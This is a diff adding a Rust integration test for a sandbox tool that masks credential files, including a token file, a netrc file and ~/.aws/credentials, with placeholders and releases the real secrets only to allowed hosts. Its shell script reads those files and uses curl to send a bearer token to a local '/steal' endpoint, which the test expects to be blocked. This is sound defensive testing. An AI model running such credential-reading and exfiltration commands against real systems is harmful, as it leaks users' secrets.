@@ -1248,3 +1248,104 @@ fn the_reverse_proxy_refuses_a_bad_upstream_certificate_and_bad_options() {
         out.stderr
     );
 }
+
+#[test]
+fn a_masked_file_shows_placeholders_that_reach_only_its_inject_hosts() {
+    if !need_curl() {
+        return;
+    }
+    let ca = TestCa::new("upstream test CA");
+    let api = upstream(&ca, "127.0.0.1");
+    let other = upstream(&ca, "127.0.0.1");
+    let (a, b) = (api.port, other.port);
+    let n = common::unique_number();
+    let (token, pass) = (format!("tok-{n}-real"), format!("pw-{n}-real"));
+    let (dir, _) = setup("tls-maskfile", &ca, "{}");
+    dir.write("home/token", &format!("{token}\n"));
+    dir.write(
+        "home/netrc",
+        &format!("machine x login me password {pass}\n# copy: {pass}\n"),
+    );
+    dir.write("home/empty-match", "nothing to see\n");
+    dir.write("home/strict", "nothing either\n");
+    // In a credential store that is hidden by default: shown alone in the emptied directory.
+    dir.mkdir("home/.aws");
+    dir.write("home/.aws/credentials", &format!("[default]\nkey = {pass}\n"));
+    dir.write("home/.aws/config", "other\n");
+    let settings = dir.settings(&format!(
+        r#"{{"network": {{"allowedDomains": ["127.0.0.1:{a}", "127.0.0.1:{b}"], "tlsTerminate": {{}}}},
+            "credentials": {{"files": [
+              {{"path": "{home}/token", "mode": "mask", "injectHosts": ["127.0.0.1:{a}"]}},
+              {{"path": "{home}/netrc", "mode": "mask", "extract": "password (\\S+)",
+                "maskDuplicates": true, "injectHosts": ["127.0.0.1:{a}"]}},
+              {{"path": "{home}/empty-match", "mode": "mask", "extract": "password (\\S+)"}},
+              {{"path": "{home}/strict", "mode": "mask", "extract": "password (\\S+)",
+                "onExtractNoMatch": "deny"}},
+              {{"path": "{home}/.aws/credentials", "mode": "mask", "extract": "key = (\\S+)"}}]}}}}"#,
+        home = dir.s("home"),
+    ));
+    let home = dir.s("home");
+    let script = format!(
+        "cat {home}/token {home}/netrc; echo; cat {home}/empty-match; \
+         echo strict=$(cat {home}/strict | wc -c); cat {home}/.aws/credentials; \
+         ls {home}/.aws; \
+         echo writes=$(echo x 2>/dev/null > {home}/token && echo yes || echo no); \
+         {CURL} -o /dev/null -w 'api=%{{http_code}}\\n' -H \"Authorization: Bearer $(cat {home}/token)\" \
+           https://127.0.0.1:{a}/api; \
+         {CURL} -o /dev/null -w 'netrc=%{{http_code}}\\n' --data-binary @{home}/netrc https://127.0.0.1:{a}/netrc; \
+         {CURL} -o /dev/null -w 'leak=%{{http_code}}\\n' -H \"Authorization: Bearer $(cat {home}/token)\" \
+           https://127.0.0.1:{b}/steal"
+    );
+    let name = format!("tls-{n}");
+    let out = run(rf(&dir).args([
+        "run", "--name", &name, "-s", &settings, "--", "sh", "-c", &script,
+    ]));
+    let text = out.ok();
+    assert!(!text.contains(&token) && !text.contains(&pass), "{text}");
+    assert!(
+        text.contains("machine x login me password ringfence_placeholder_"),
+        "{text}"
+    );
+    assert!(text.contains("# copy: ringfence_placeholder_"), "{text}");
+    // No match with "warn" (the default): left as it is, with a warning; with "deny": hidden.
+    assert!(text.contains("nothing to see"), "{text}");
+    assert!(out.stderr.contains("UNPROTECTED"), "{}", out.stderr);
+    assert!(text.contains("strict=0"), "{text}");
+    assert!(text.contains("[default]\nkey = ringfence_placeholder_"), "{text}");
+    assert!(!text.contains("config"), "{text}");
+    assert!(text.contains("writes=no"), "{text}");
+    assert!(text.contains("api=200"), "{text}");
+    assert!(text.contains("netrc=200"), "{text}");
+    assert!(text.contains("leak=403"), "{text}");
+    let seen = api.seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 2, "{seen:?}");
+    assert!(
+        seen[0].contains(&format!("authorization: Bearer {token}\r\n")),
+        "{seen:?}"
+    );
+    assert!(
+        seen[1].ends_with(&format!("password {pass}\n# copy: {pass}\n")),
+        "{seen:?}"
+    );
+    assert!(other.seen.lock().unwrap().is_empty());
+    // The real files are untouched on the host.
+    assert_eq!(
+        std::fs::read_to_string(dir.join("home/token")).unwrap(),
+        format!("{token}\n")
+    );
+
+    // "error" stops the run, naming the entry.
+    let settings = dir.settings(&format!(
+        r#"{{"network": {{"tlsTerminate": {{}}}},
+            "credentials": {{"files": [{{"path": "{home}/strict", "mode": "mask",
+              "extract": "password (\\S+)", "onExtractNoMatch": "error"}}]}}}}"#
+    ));
+    let out = run(rf(&dir).args(["run", "-s", &settings, "--", "true"]));
+    assert_eq!(out.code(), 125, "{}", out.stderr);
+    assert!(
+        out.stderr
+            .contains("credentials.files[0].extract matched nothing"),
+        "{}",
+        out.stderr
+    );
+}
